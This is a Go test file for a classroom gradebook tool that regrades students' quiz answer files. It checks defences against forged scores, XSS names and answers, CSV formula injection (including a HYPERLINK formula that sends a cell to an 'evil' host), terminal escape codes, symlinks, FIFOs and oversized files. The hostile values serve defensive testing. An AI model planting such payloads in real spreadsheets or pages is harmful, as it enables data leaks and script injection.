package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/k12notebooks/golessons/answerfile"
	gb "github.com/k12notebooks/golessons/gradebook"
	"github.com/k12notebooks/golessons/internal/lessontest"
)

func writeAnswers(t *testing.T, path string, a *answerfile.Answers) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := answerfile.Write(path, a); err != nil {
		t.Fatal(err)
	}
}

func at(min int) time.Time { return time.Date(2025, 3, 4, 10, min, 0, 0, time.UTC) }

// sample builds a folder of students' copies.
func sample(t *testing.T) (in, lessons string) {
	dir := t.TempDir()
	in = filepath.Join(dir, "submissions")
	free, tf, mc := lessontest.Questions(t)

	alice := answerfile.New("openai-streaming.ipynb")
	alice.Add(free.ID, answerfile.Attempt{Answer: "streaming", Time: at(1)}, free.Text, 1)
	alice.Add(free.ID, answerfile.Attempt{Answer: "stream", Correct: true, Time: at(2)}, free.Text, 1)
	alice.Add(mc.ID, answerfile.Attempt{Answer: "b", Correct: true, Time: at(3)}, mc.Text, 1)
	writeAnswers(t, filepath.Join(in, "alice", "notebooks", "openai-streaming.answers.json"), alice)

	hostile := "<img src=x onerror=alert(1)>"
	bob := answerfile.New("openai-streaming.ipynb")
	bob.Add(free.ID, answerfile.Attempt{Answer: "=HYPERLINK(\"http://x\")", Time: at(5)}, free.Text, 1)
	bob.Add(tf.ID, answerfile.Attempt{Answer: "True", Correct: true, Time: at(6)}, tf.Text, 1)
	writeAnswers(t, filepath.Join(in, hostile, "openai-streaming.answers.json"), bob)

	// A flat file: the student is the file name.
	carol := answerfile.New("")
	carol.Add(tf.ID, answerfile.Attempt{Answer: "False", Time: at(7)}, "", 1)
	writeAnswers(t, filepath.Join(in, "carol.answers.json"), carol)

	// Malformed: reported and skipped.
	lessontest.WriteFile(t, filepath.Join(in, "dave", "openai-streaming.answers.json"), "{\n  \"answers\": {\n    \"q-1\": {\"answer\": \"a\",}\n  }\n}")
	// Checkpoints are not read.
	lessontest.WriteFile(t, filepath.Join(in, "alice", ".ipynb_checkpoints", "openai-streaming.answers.json"), "{broken")

	lessons = filepath.Join(dir, "notebooks")
	lessontest.WriteLesson(t, filepath.Join(lessons, "openai-streaming.ipynb"))
	return in, lessons
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// result is what one run of the command gave.
type result struct {
	code           int
	stdout, stderr string
	out            string // the -out folder
	rows           [][]string
	html           string
}

// gradebook runs the real command on in with the lessons, failing the test
// if it blocks (a FIFO or /dev/zero must never be read).
func gradebook(t *testing.T, in, lessons string) result {
	t.Helper()
	r := result{out: filepath.Join(t.TempDir(), "out")}
	var stdout, stderr bytes.Buffer
	done := make(chan int)
	go func() { done <- run([]string{"-in", in, "-out", r.out, "-questions", lessons}, &stdout, &stderr) }()
	select {
	case r.code = <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("gradebook blocked for 20s")
	}
	r.stdout, r.stderr = stdout.String(), stderr.String()
	if r.code == 0 {
		r.rows = readCSV(t, filepath.Join(r.out, "gradebook.csv"))
		page, err := os.ReadFile(filepath.Join(r.out, "gradebook.html"))
		if err != nil {
			t.Fatal(err)
		}
		r.html = string(page)
	}
	return r
}

// total returns the TOTAL row of a student, or nil.
func (r result) total(student string) []string {
	for _, row := range r.rows {
		if row[0] == student && row[2] == "TOTAL" {
			return row
		}
	}
	return nil
}

// wantTotal checks a student's "k of n correct", score and warnings.
func (r result) wantTotal(t *testing.T, student, correct, score, warnings string) {
	t.Helper()
	row := r.total(student)
	if row == nil {
		t.Errorf("no TOTAL row for %q", student)
		return
	}
	if row[3] != correct || row[9] != score || row[10] != warnings {
		t.Errorf("%q: TOTAL %q, score %s, warnings %s; want %q, %s, %s", student, row[3], row[9], row[10], correct, score, warnings)
	}
}

func TestGradebook(t *testing.T) {
	in, lessons := sample(t)
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stdout, "4 students, 3 questions, 1 warning:") {
		t.Errorf("stdout %q", r.stdout)
	}
	// The malformed file is named, with its position and its student, and
	// the others are still graded.
	dave := filepath.Join(in, "dave", "openai-streaming.answers.json")
	if !strings.Contains(r.stderr, `damaged file, student "dave": `+dave+": line 3:27: malformed JSON") {
		t.Errorf("stderr does not report the malformed file: %q", r.stderr)
	}
	if strings.Contains(r.stderr, ".ipynb_checkpoints") {
		t.Errorf("a checkpoint was read: %q", r.stderr)
	}

	free, tf, mc := lessontest.Questions(t)
	nb := "openai-streaming.ipynb"
	hostile := "<img src=x onerror=alert(1)>"
	want := [][]string{
		{"student", "notebook", "question_id", "question", "answer", "correct", "attempts", "time", "points", "score", "warnings"},
		{hostile, nb, free.ID, free.Text, "'=HYPERLINK(\"http://x\")", "FALSE", "1", "2025-03-04T10:05:00Z", "1", "0", ""},
		{hostile, nb, tf.ID, tf.Text, "True", "TRUE", "1", "2025-03-04T10:06:00Z", "1", "1", ""},
		{hostile, nb, mc.ID, mc.Text, "", "FALSE", "0", "", "1", "0", ""},
		{hostile, "", "TOTAL", "1 of 3 correct", "", "", "2", "2025-03-04T10:06:00Z", "3", "1", "0"},
		{"alice", nb, free.ID, free.Text, "stream", "TRUE", "2", "2025-03-04T10:02:00Z", "1", "1", ""},
		{"alice", nb, tf.ID, tf.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"alice", nb, mc.ID, mc.Text, "b", "TRUE", "1", "2025-03-04T10:03:00Z", "1", "1", ""},
		{"alice", "", "TOTAL", "2 of 3 correct", "", "", "3", "2025-03-04T10:03:00Z", "3", "2", "0"},
		{"carol", nb, free.ID, free.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"carol", nb, tf.ID, tf.Text, "False", "FALSE", "1", "2025-03-04T10:07:00Z", "1", "0", ""},
		{"carol", nb, mc.ID, mc.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"carol", "", "TOTAL", "0 of 3 correct", "", "", "1", "2025-03-04T10:07:00Z", "3", "0", "0"},
		{"dave", nb, free.ID, free.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"dave", nb, tf.ID, tf.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"dave", nb, mc.ID, mc.Text, "", "FALSE", "0", "", "1", "0", ""},
		{"dave", "", "TOTAL", "0 of 3 correct", "", "", "0", "", "3", "0", "1"},
	}
	if len(r.rows) != len(want) {
		t.Fatalf("CSV has %d rows, want %d:\n%v", len(r.rows), len(want), r.rows)
	}
	for i := range want {
		if strings.Join(r.rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("CSV row %d:\n got %q\nwant %q", i, r.rows[i], want[i])
		}
	}

	html := r.html
	if strings.Contains(html, "<img") || strings.Contains(html, "<script") {
		t.Errorf("unescaped student name in the HTML")
	}
	for _, w := range []string{
		"&lt;img src=x onerror=alert(1)&gt;",
		"<svg xmlns=\"http://www.w3.org/2000/svg\"",
		"What does chunk.choices[0].delta.content contain during streaming?",
		"<h2 id=\"warnings\">Warnings</h2>",
		"<td>damaged file</td><td>dave</td>",
		"line 3:27: malformed JSON",
		"1 warning</a>",
	} {
		if !strings.Contains(html, w) {
			t.Errorf("HTML lacks %q", w)
		}
	}
	// One bar per question; the share of each question is 1 of 4 students,
	// so its bar is a quarter of the track.
	bars := regexp.MustCompile(`<rect class="bar" x="320" y="[0-9.]+" width="([0-9.]+)"`).FindAllStringSubmatch(html, -1)
	if len(bars) != 3 {
		t.Fatalf("found %d bars, want 3", len(bars))
	}
	if bars[0][1] != "90" || bars[1][1] != "90" || bars[2][1] != "90" {
		t.Errorf("bar widths %v, want 90 each (1 of 4 students)", bars)
	}
	if !strings.Contains(html, "1/4 (25%)") {
		t.Errorf("bar values missing")
	}
}

// forged writes an answers file by hand, as a student with a text editor
// would: every field is the student's choice.
func forged(t *testing.T, path string, answers map[string]any) {
	t.Helper()
	data, err := json.MarshalIndent(map[string]any{"version": 1, "notebook": "openai-streaming.ipynb", "answers": answers}, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	lessontest.WriteFile(t, path, string(data))
}

func rec(answer string, correct bool, points float64) map[string]any {
	return map[string]any{"answer": answer, "correct": correct, "points": points, "attempts": 1,
		"time": "2025-03-04T10:00:00Z", "history": []any{map[string]any{"answer": answer, "correct": correct, "time": "2025-03-04T10:00:00Z"}}}
}

// The score comes from the lesson's questions only: a forged "correct",
// "points" or question id earns nothing.
func TestGradebookRegradesForgedAnswers(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	free, tf, mc := lessontest.Questions(t)
	mallory := filepath.Join(in, "mallory", "openai-streaming.answers.json")
	forged(t, mallory, map[string]any{
		free.ID:   rec("streaming", true, 1), // wrong, marked right
		tf.ID:     rec("True", true, 1000),   // right, worth 1 in the lesson
		mc.ID:     rec("a", true, 1),         // wrong, marked right
		"q-bogus": rec("anything", true, 1000),
	})
	// Right answers marked wrong count as right.
	forged(t, filepath.Join(in, "modest", "openai-streaming.answers.json"), map[string]any{
		free.ID: rec("Stream.", false, 0), tf.ID: rec("true", false, 0), mc.ID: rec("b", false, 0),
	})
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	r.wantTotal(t, "mallory", "1 of 3 correct", "1", "1")
	r.wantTotal(t, "modest", "3 of 3 correct", "3", "0")
	for _, row := range r.rows {
		if row[0] == "mallory" && row[2] == tf.ID && (row[5] != "TRUE" || row[8] != "1" || row[9] != "1") {
			t.Errorf("inflated points: row %q, want TRUE, points 1, score 1", row)
		}
		if row[0] == "mallory" && (row[2] == free.ID || row[2] == mc.ID) && (row[5] != "FALSE" || row[9] != "0") {
			t.Errorf("wrong answer marked correct: row %q, want FALSE, score 0", row)
		}
		if strings.Contains(strings.Join(row, "|"), "q-bogus") || strings.Contains(strings.Join(row, "|"), "1000") {
			t.Errorf("the bogus question reached the CSV: %q", row)
		}
	}
	want := `unknown question, student "mallory": ` + mallory + `: an answer to question id "q-bogus", which is not a question of the lesson openai-streaming.ipynb: not scored`
	if !strings.Contains(r.stderr, want) {
		t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
	}
	if !strings.Contains(r.stdout, "2 students, 3 questions, 1 warning") {
		t.Errorf("stdout %q", r.stdout)
	}
	for _, w := range []string{"<td>unknown question</td><td>mallory</td><td><code>" + mallory + "</code></td>", "q-bogus",
		"<td>mallory</td>" + strings.Repeat(`<td class="mark">`+"✘</td>", 1)} {
		if !strings.Contains(r.html, w) {
			t.Errorf("HTML lacks %q", w)
		}
	}
	if !regexp.MustCompile(`<tr><td>mallory</td>.*<td class="num">1 / 3</td>`).MatchString(r.html) {
		t.Errorf("HTML does not score mallory 1 / 3")
	}
}

// Answers to unknown ids are named one by one up to a limit, then counted.
func TestGradebookManyUnknownIDs(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	answers := map[string]any{}
	for i := range 25 {
		answers[fmt.Sprintf("q-fake-%02d", i)] = rec("x", true, 100)
	}
	forged(t, filepath.Join(in, "eve", "openai-streaming.answers.json"), answers)
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if n := strings.Count(r.stderr, "unknown question"); n != gb.MaxUnknownListed+1 {
		t.Errorf("%d unknown-question warnings, want %d:\n%s", n, gb.MaxUnknownListed+1, r.stderr)
	}
	if !strings.Contains(r.stderr, "15 more answers to question ids") {
		t.Errorf("the rest are not counted:\n%s", r.stderr)
	}
	r.wantTotal(t, "eve", "0 of 3 correct", "0", "11")
}

func TestGradebookRefusesSpecialFiles(t *testing.T) {
	_, lessons := sample(t)
	dir := t.TempDir()
	in := filepath.Join(dir, "class")
	free, tf, mc := lessontest.Questions(t)
	right := map[string]any{free.ID: rec("stream", true, 1), tf.ID: rec("True", true, 1), mc.ID: rec("b", true, 1)}
	name := "openai-streaming.answers.json"
	forged(t, filepath.Join(in, "alice", name), right)
	forged(t, filepath.Join(dir, "elsewhere", name), right)

	symlink := func(target, link string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, link); err != nil {
			t.Skip("no symlinks here:", err)
		}
	}
	refused := map[string]string{ // student -> refused path, reason
		"zero":    filepath.Join(in, "zero", name),
		"linked":  filepath.Join(in, "linked"),
		"copycat": filepath.Join(in, "copycat", name),
		"big":     filepath.Join(in, "big", name),
		"fifo":    filepath.Join(in, "fifo", name),
	}
	reasons := map[string]string{"zero": "symbolic link", "linked": "symbolic link", "copycat": "symbolic link",
		"big": "over the limit of 1 MiB", "fifo": "FIFO"}
	symlink("/dev/zero", refused["zero"])
	symlink(filepath.Join(dir, "elsewhere"), refused["linked"])
	symlink(filepath.Join("..", "alice", name), refused["copycat"])
	data, _ := json.Marshal(map[string]any{"notebook": "openai-streaming.ipynb", "answers": right})
	lessontest.WriteFile(t, refused["big"], string(data)+strings.Repeat(" ", 1<<20))
	if err := os.MkdirAll(filepath.Dir(refused["fifo"]), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := mkfifo(refused["fifo"]); err != nil {
		t.Logf("no FIFO: %v", err)
		delete(refused, "fifo")
	}

	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	r.wantTotal(t, "alice", "3 of 3 correct", "3", "0")
	for student, path := range refused {
		want := fmt.Sprintf("refused file, student %q: %s: it ", student, path)
		if !strings.Contains(r.stderr, want) || !strings.Contains(r.stderr, reasons[student]) {
			t.Errorf("stderr lacks %q (%s):\n%s", want, reasons[student], r.stderr)
		}
		if !strings.Contains(r.html, "<td>refused file</td><td>"+student+"</td><td><code>"+path+"</code></td>") {
			t.Errorf("HTML does not list %s as refused", path)
		}
		// Listed, with nothing scored.
		r.wantTotal(t, student, "0 of 3 correct", "0", "1")
	}
}

func TestGradebookRefusesDeepFolders(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	free, _, _ := lessontest.Questions(t)
	forged(t, filepath.Join(in, "alice", "openai-streaming.answers.json"), map[string]any{free.ID: rec("stream", true, 1)})
	deep := filepath.Join(in, "deep", strings.Repeat("d/", gb.MaxDepth), "openai-streaming.answers.json")
	forged(t, deep, map[string]any{free.ID: rec("stream", true, 1)})
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, `refused file, student "deep": `) || !strings.Contains(r.stderr, "more than 16 deep") {
		t.Errorf("the deep folder is not reported:\n%s", r.stderr)
	}
	r.wantTotal(t, "deep", "0 of 3 correct", "0", "1")
}

func TestGradebookCSVFormulaInjection(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	free, _, _ := lessontest.Questions(t)
	hostile := []string{"=HYPERLINK(\"http:\\\\evil\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"}
	for i, h := range hostile {
		forged(t, filepath.Join(in, h, "openai-streaming.answers.json"), map[string]any{free.ID: rec(hostile[len(hostile)-1-i], false, 1)})
	}
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if len(r.rows) != 1+len(hostile)*4 {
		t.Fatalf("%d rows, want %d", len(r.rows), 1+len(hostile)*4)
	}
	names, answers := map[string]bool{}, map[string]bool{}
	for _, row := range r.rows[1:] {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %q: cell %d %q starts a formula", row, j, c)
			}
		}
		names[row[0]] = true
		if row[2] == free.ID {
			answers[row[4]] = true
		}
	}
	for _, h := range hostile {
		if !names["'"+h] || !answers["'"+h] {
			t.Errorf("%q is not kept as text ('%s) in the name and answer columns: %v %v", h, h, names, answers)
		}
	}
}

func TestGradebookHTMLEscapes(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	free, _, _ := lessontest.Questions(t)
	name := "<script>alert(1)" // a folder name cannot hold a slash
	path := filepath.Join(in, name, "openai-streaming.answers.json")
	forged(t, path, map[string]any{
		free.ID:                       rec("</code><script>alert(2)</script>", false, 1),
		"<script>alert(3)</script>":   rec("x", true, 1),
		"\" onmouseover=\"alert(4)\"": rec("x", true, 1),
	})
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if strings.Contains(strings.ToLower(r.html), "<script") || strings.Contains(r.html, `" onmouseover="`) {
		t.Errorf("hostile text reached the HTML unescaped")
	}
	for _, w := range []string{"<tr><td>&lt;script&gt;alert(1)</td>", "&lt;script&gt;alert(3)&lt;/script&gt;"} {
		if !strings.Contains(r.html, w) {
			t.Errorf("HTML lacks %q", w)
		}
	}
	if !utf8.ValidString(r.html) {
		t.Errorf("HTML is not UTF-8")
	}
}

func TestGradebookTerminalSafe(t *testing.T) {
	_, lessons := sample(t)
	in := filepath.Join(t.TempDir(), "class")
	forged(t, filepath.Join(in, "evil\x1b[2J", "openai-streaming.answers.json"), map[string]any{"q-\x1b]0;x\a": rec("x", true, 1)})
	r := gradebook(t, in, lessons)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if strings.ContainsAny(r.stderr, "\x1b\a") {
		t.Errorf("control characters reached stderr: %q", r.stderr)
	}
	if !strings.Contains(r.stderr, `evil\u001b[2J`) {
		t.Errorf("the name is not shown escaped: %q", r.stderr)
	}
}

func TestGradebookUsage(t *testing.T) {
	in, lessons := sample(t)
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-in", t.TempDir()}, &stdout, &stderr); code != 2 {
		t.Errorf("missing -out: exit %d, want 2", code)
	}
	stderr.Reset()
	if code := run([]string{"-in", in, "-out", t.TempDir()}, &stdout, &stderr); code != 2 || !strings.Contains(stderr.String(), "-questions notebooks") {
		t.Errorf("missing -questions: exit %d, %q", code, stderr.String())
	}
	stderr.Reset()
	if code := run([]string{"-in", in, "-out", t.TempDir(), "-questions", t.TempDir()}, &stdout, &stderr); code != 1 || !strings.Contains(stderr.String(), "no quiz question found") {
		t.Errorf("lessons without questions: exit %d, %q", code, stderr.String())
	}
	empty := t.TempDir()
	stderr.Reset()
	if code := run([]string{"-in", empty, "-out", t.TempDir(), "-questions", lessons}, &stdout, &stderr); code != 1 || !strings.Contains(stderr.String(), "no answers file") {
		t.Errorf("empty folder: exit %d, %q", code, stderr.String())
	}
	stderr.Reset()
	if code := run([]string{"-in", filepath.Join(empty, "none"), "-out", t.TempDir(), "-questions", lessons}, &stdout, &stderr); code != 1 || !strings.Contains(stderr.String(), "cannot read the class folder") {
		t.Errorf("missing folder: exit %d, %q", code, stderr.String())
	}
}
